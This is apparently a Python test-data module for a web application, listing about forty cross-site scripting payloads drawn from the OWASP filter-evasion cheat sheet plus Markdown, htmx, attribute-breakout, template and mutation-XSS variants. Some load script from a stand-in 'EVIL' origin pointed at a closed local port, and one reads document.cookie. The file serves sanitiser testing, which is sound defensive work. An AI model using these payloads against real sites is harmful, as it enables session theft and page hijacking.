"""A representative selection of the OWASP XSS filter-evasion cheat sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
plus the tricks that matter to this stack: Markdown links and autolinks, htmx
attributes (htmx acts on attributes of swapped-in HTML), attribute and
<textarea>/<title> breakouts, template syntax and mutation XSS.

Every payload that ran would open a dialog (alert, confirm or prompt), or leave an
element with an event handler, a javascript: URL or a script not served by us.
External URLs point to a closed local port: nothing leaves the machine.
"""

EVIL_ORIGIN = "http://127.0.0.1:9"
EVIL = f"{EVIL_ORIGIN}/xss.js"

PAYLOADS = [
    # script tags, plain and malformed
    "<script>alert('XSS')</script>",
    f"<SCRIPT SRC={EVIL}></SCRIPT>",
    f'<SCRIPT/XSS SRC="{EVIL}"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    f"<SCRIPT SRC={EVIL}?< B >",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    # images and SVG with handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=confirm(1)>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    # javascript: URLs, obfuscated
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # Markdown: links and autolinks with scripting schemes
    "[click me](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1)) and [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "**bold** [a](vbscript:msgbox(1)) `<img src=x onerror=alert(1)>`",
    # breaking out of attributes, <textarea> and <title>
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=prompt(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # CSS: expressions, javascript: in url(), imports
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    f"<STYLE>@import'{EVIL}';</STYLE>",
    # htmx attributes, template syntax, mutation XSS
    '<div hx-get="/" hx-trigger="load" hx-on::after-request="alert(1)">htmx</div>',
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `-alert(1)-`",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

# Short enough for a room name (80 characters).
NAME_PAYLOADS = [payload for payload in PAYLOADS if len(payload) <= 80]
# Those that try to leave an attribute value, a <textarea> or the <title>.
BREAKOUTS = [
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=prompt(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
]
# One of every three, and every breakout: where each page puts the text is what varies.
SAMPLE = [payload for n, payload in enumerate(PAYLOADS) if n % 3 == 0 or payload in BREAKOUTS]
